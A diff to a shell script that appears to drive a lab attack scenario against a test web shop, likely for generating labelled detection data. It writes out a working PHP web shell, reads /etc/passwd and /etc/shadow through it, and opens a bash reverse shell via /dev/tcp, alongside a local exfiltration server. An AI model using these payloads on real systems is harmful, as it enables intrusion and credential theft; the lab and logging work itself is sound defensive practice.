@@ -4,16 +4,27 @@
 # Inputs: WORK (scratch dir, steps.tsv), BASE (shop URL), WR (web root as the
 # web server sees it). Every step records its wall-clock start/end.
 # Step ids here must match lib/spec-classic.json.
+# LAB_DRIVER=1 (scenario-webshell-classic): every request goes through the
+# request driver (req, requests.tsv); unset (scenario-container, captured
+# before the driver existed): the plain curls of that capture.
 
 attack_classic() {
   local SH="$BASE/uploads/avatar.php" rs_curl beacon_pid exfil_pid vis_pid t
-  webshell() { curl -s -A "$UA_ATTACK" -G --data-urlencode "c=$1" "$SH" > /dev/null; }
+  # on STEP: the step a request is logged under, or nothing without the driver
+  on() { [ -n "${LAB_DRIVER:-}" ] && printf '%s' "$1"; return 0; }
+  webshell() { # STEP CMD: a command through the web shell's ?c=
+    if [ -n "${LAB_DRIVER:-}" ]; then
+      req "$1" GET "$SH?c=$(urlenc "$2")" "" "$UA_ATTACK"
+    else
+      curl -s -A "$UA_ATTACK" -G --data-urlencode "c=$2" "$SH" > /dev/null
+    fi
+  }
 
   $PY "$LAB_DIR/lib/attacker-http.py" --port 8000 --store "$WORK/exfil" --lifetime 400 &
   exfil_pid=$!; echo $exfil_pid > "$WORK/exfil.pid"
 
   step_start benign-web-traffic; step_start benign-cron-housekeeping
-  php_visitors "$BASE" & vis_pid=$!; echo $vis_pid > "$WORK/visitors.pid"
+  php_visitors "$BASE" "$(on benign-web-traffic)" & vis_pid=$!; echo $vis_pid > "$WORK/visitors.pid"
   sleep 2
 
   step_start benign-admin-ssh
@@ -22,42 +33,46 @@ attack_classic() {
   sleep 3
 
   step_start benign-upload
-  curl -s -A "$UA_BROWSER" -F "file=@$LAB_DIR/conf/design.png;filename=spring-design.png" "$BASE/upload.php" > /dev/null
+  visit "$(on benign-upload)" POST "$UA_BROWSER" "$BASE/upload.php" -F "file=@$LAB_DIR/conf/design.png;filename=spring-design.png"
   step_end benign-upload
   sleep 4
 
   # recon: path guessing, then the unrestricted upload is confirmed with a text file
   step_start recon-and-upload-probe
   for p in /robots.txt /.env /.git/HEAD /admin/ /backup/ /uploads/ /phpinfo.php /upload.php; do
-    curl -s -o /dev/null -A "$UA_ATTACK" "$BASE$p"; sleep 0.3
+    visit "$(on recon-and-upload-probe)" GET "$UA_ATTACK" "$BASE$p"; sleep 0.3
   done
   printf 'probe\n' > "$WORK/probe.txt"
-  curl -s -A "$UA_ATTACK" -F "file=@$WORK/probe.txt" "$BASE/upload.php" > /dev/null
-  curl -s -o /dev/null -A "$UA_ATTACK" "$BASE/uploads/probe.txt"
+  visit "$(on recon-and-upload-probe)" POST "$UA_ATTACK" "$BASE/upload.php" -F "file=@$WORK/probe.txt"
+  visit "$(on recon-and-upload-probe)" GET "$UA_ATTACK" "$BASE/uploads/probe.txt"
   step_end recon-and-upload-probe
   sleep 2
 
   step_start upload-webshell
   printf '%s\n' '<?php if(isset($_REQUEST["c"])){echo "<pre>";passthru($_REQUEST["c"]." 2>&1");echo "</pre>";} ?>' > "$WORK/avatar.php"
-  curl -s -A "$UA_ATTACK" -F "file=@$WORK/avatar.php" "$BASE/upload.php" > /dev/null
+  visit "$(on upload-webshell)" POST "$UA_ATTACK" "$BASE/upload.php" -F "file=@$WORK/avatar.php"
   step_end upload-webshell
   sleep 2
 
   step_start webshell-recon-commands
   for c in id whoami 'uname -a' 'cat /etc/passwd' "ls -la $WR" "ls -la $WR/backup" "cat $WR/backup/README.txt"; do
-    webshell "$c"; sleep 1.2
+    webshell webshell-recon-commands "$c"; sleep 1.2
   done
   step_end webshell-recon-commands
 
   step_start webshell-shadow-read-attempt
-  webshell 'cat /etc/shadow'
+  webshell webshell-shadow-read-attempt 'cat /etc/shadow'
   step_end webshell-shadow-read-attempt
   sleep 1.5
 
   # the reverse shell: the request hangs for as long as the shell lives
   rs_listen 4444
   step_start webshell-spawns-reverse-shell
-  curl -s -m 300 -A "$UA_ATTACK" -G --data-urlencode "c=bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'" "$SH" > /dev/null &
+  if [ -n "${LAB_DRIVER:-}" ]; then
+    req webshell-spawns-reverse-shell GET "$SH?c=$(urlenc "bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'")" "" "$UA_ATTACK" -m 300 &
+  else
+    curl -s -m 300 -A "$UA_ATTACK" -G --data-urlencode "c=bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'" "$SH" > /dev/null &
+  fi
   rs_curl=$!; echo $rs_curl > "$WORK/rs-curl.pid"
   for t in $(seq 1 50); do [ -s "$WORK/rs-4444.out" ] && break; sleep 0.2; done
   sleep 1
